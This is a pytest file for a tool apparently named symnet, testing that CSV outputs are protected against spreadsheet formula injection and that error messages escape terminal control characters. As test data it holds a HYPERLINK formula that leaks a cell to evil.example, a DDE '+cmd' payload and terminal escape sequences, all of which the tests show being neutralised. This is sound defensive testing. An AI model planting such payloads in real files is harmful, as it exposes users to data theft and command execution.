"""No formula injection through CSV outputs and no terminal escapes through error
messages (issue #11, item 11)."""

from __future__ import annotations

import csv
import shutil
import subprocess
import sys
from pathlib import Path

import pandas as pd
import pytest

from symnet.errors import Problem, printable
from symnet.outputs._format import FORMULA_START, csv_safe, csv_safe_cell

ROOT = Path(__file__).parents[2]
TINY = ROOT / "tests" / "fixtures" / "tiny"
PAYLOAD = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-200", "-200"),  # a plain number as text stays a number
        ("-6\u2009900", "-6\u2009900"),
        ("-1.5e3", "-1.5e3"),
        ("a=b", "a=b"),
        (-3.5, -3.5),
        (None, None),
    ],
)
def test_csv_safe_cell(cell: object, written: object) -> None:
    assert csv_safe_cell(cell) == written


def test_csv_safe_keeps_numeric_columns() -> None:
    frame = pd.DataFrame({"name": ["=x", "ok"], "cost": [-5.0, 2.0]})
    out = csv_safe(frame)
    assert list(out["name"]) == ["'=x", "ok"] and list(out["cost"]) == [-5.0, 2.0]
    assert list(frame["name"]) == ["=x", "ok"]  # the input frame is not changed


def test_csv_safe_guards_string_and_mixed_columns() -> None:
    """String-dtype columns (with missing cells) and object columns mixing texts, numbers
    and None: only the formula-like texts change."""
    frame = pd.DataFrame(
        {
            "text": pd.array(["@SUM(A1)", None, "-6 900", "plain", "+cmd"], dtype="string"),
            "mixed": ["=1+1", 3, None, "-x", 2.5],
        }
    )
    out = csv_safe(frame)
    assert out["text"].tolist() == ["'@SUM(A1)", pd.NA, "-6 900", "plain", "'+cmd"]
    assert out["mixed"].tolist() == ["'=1+1", 3, None, "'-x", 2.5]
    assert str(out["text"].dtype) == "string"


def _symnet(*args: str) -> subprocess.CompletedProcess[str]:
    env = {"PYTHONPATH": str(ROOT), "PATH": "/usr/bin:/bin", "MPLBACKEND": "Agg"}
    return subprocess.run([sys.executable, "-m", "symnet", *args], capture_output=True, text=True, env=env, timeout=120)


def test_run_csvs_carry_no_formula(tmp_path: Path) -> None:
    folder = tmp_path / "tiny"
    shutil.copytree(TINY, folder)
    actors = (folder / "actors.csv").read_text("utf-8").replace("Heat plant", '"' + PAYLOAD.replace('"', '""') + '"')
    (folder / "actors.csv").write_text(actors, "utf-8")
    out = tmp_path / "out"
    proc = _symnet("run", str(folder), "--out", str(out), "--basemap", "none")
    assert proc.returncode == 0, proc.stderr
    seen_payload = False
    for path in sorted(out.glob("*.csv")):
        with path.open(encoding="utf-8", newline="") as fh:
            for row in csv.reader(fh):
                for cell in row:
                    seen_payload |= cell == "'" + PAYLOAD
                    if cell.startswith(FORMULA_START):
                        float(cell.replace("\u2009", "").replace(" ", ""))  # only real numbers start so
    assert seen_payload


def test_problem_text_escapes_control_characters() -> None:
    text = str(Problem("a\x1b[31m.csv", 3, "name", "bad \x1b]0;owned\x07 value \u202eabc\nnext"))
    assert text == "a\\x1b[31m.csv:3:name: bad \\x1b]0;owned\\x07 value \\u202eabc\\x0anext"
    assert printable("Härjedalen – ok") == "Härjedalen – ok"


def test_escape_sequences_in_input_never_reach_the_terminal(tmp_path: Path) -> None:
    folder = tmp_path / "tiny"
    shutil.copytree(TINY, folder)
    actors = (folder / "actors.csv").read_text("utf-8").replace("14.357", "\x1b[2J\x1b]0;owned\x07")
    (folder / "actors.csv").write_text(actors, "utf-8")
    proc = _symnet("validate", str(folder))
    assert proc.returncode == 2
    assert "\x1b" not in proc.stderr + proc.stdout and "\x07" not in proc.stderr
    assert "\\x1b[2J" in proc.stderr
    assert "Traceback" not in proc.stderr
